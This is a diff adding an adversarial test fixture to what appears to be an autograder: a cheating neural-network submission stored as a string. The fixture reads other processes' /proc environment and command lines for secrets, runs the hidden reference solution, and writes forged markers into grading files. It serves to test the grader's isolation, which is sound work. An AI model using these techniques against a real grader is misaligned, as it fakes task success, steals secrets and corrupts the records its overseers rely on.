@@ -543,6 +543,70 @@ def softmax(Z):
     return torch.exp(Z)
 '''
 
+#: Without namespaces (tests/adversarial/test_unisolated.py): find the kit through the grader's environment
+#: and command line in /proc, read the reference by path and by glob, rewrite the grader's copy of the
+#: submission, grading.yml and the output folder.
+UNISOLATED_CHEAT = '''
+import glob
+import os
+import runpy
+
+import torch
+
+_honest = {"softmax": softmax, "init_params": init_params}
+
+
+def _processes(name):
+    """What every process's ``name`` file (environ, cmdline) holds, for those this uid may read."""
+    texts = []
+    for path in glob.glob(f"/proc/[0-9]*/{name}"):
+        try:
+            with open(path, "rb") as handle:
+                texts.append(handle.read().replace(b"\\0", b"\\n").decode(errors="replace"))
+        except OSError:
+            pass
+    return "\\n".join(texts)
+
+
+def forward(params, X):
+    roots = ["@ROOT@"] + [line.split("=", 1)[1] for line in _processes("environ").splitlines()
+                          if line.startswith("AUTOGRADER_ROOT=")]
+    paths = [f"{root}/solutions/tp1_mlp/manual.py" for root in roots]
+    for depth in range(1, 5):
+        paths += glob.glob("/*" * depth + "/solutions/tp1_mlp/manual.py")
+    for path in paths:
+        try:
+            return runpy.run_path(path)["forward"](params, X)
+        except Exception:
+            pass
+    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
+    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}
+
+
+def softmax(Z):
+    """Rewrite the grader's copy of this submission (named on its command line), grading.yml and --out."""
+    targets = ["@ROOT@/grading.yml", "@OUT@/FORGED", "@OUT@/@NAME@/results.json"]
+    for word in _processes("cmdline").split():
+        if word.startswith("--submission="):
+            targets.append(word.split("=", 1)[1] + "/manual.py")
+    written = 0
+    for path in targets:
+        try:
+            with open(path, "a") as handle:
+                handle.write("\\n# FORGED\\n")
+            written += 1
+        except OSError:
+            pass
+    return _honest["softmax"](Z) if written else torch.exp(Z)
+
+
+def init_params(nx, nh, ny, generator=None):
+    """Read the data labels or the grader's secrets from any process's environment."""
+    if glob.glob("/usr/share/datasets/*/*") or "AUTOGRADER_ADVERSARIAL_SECRET" in _processes("environ"):
+        return _honest["init_params"](nx, nh, ny, generator)
+    return {"Wh": torch.zeros(nh, nx), "bh": torch.zeros(nh), "Wy": torch.zeros(ny, nh), "by": torch.zeros(ny)}
+'''
+
 
 def _regenerate_labels_train(context: dict) -> str:
     return '''
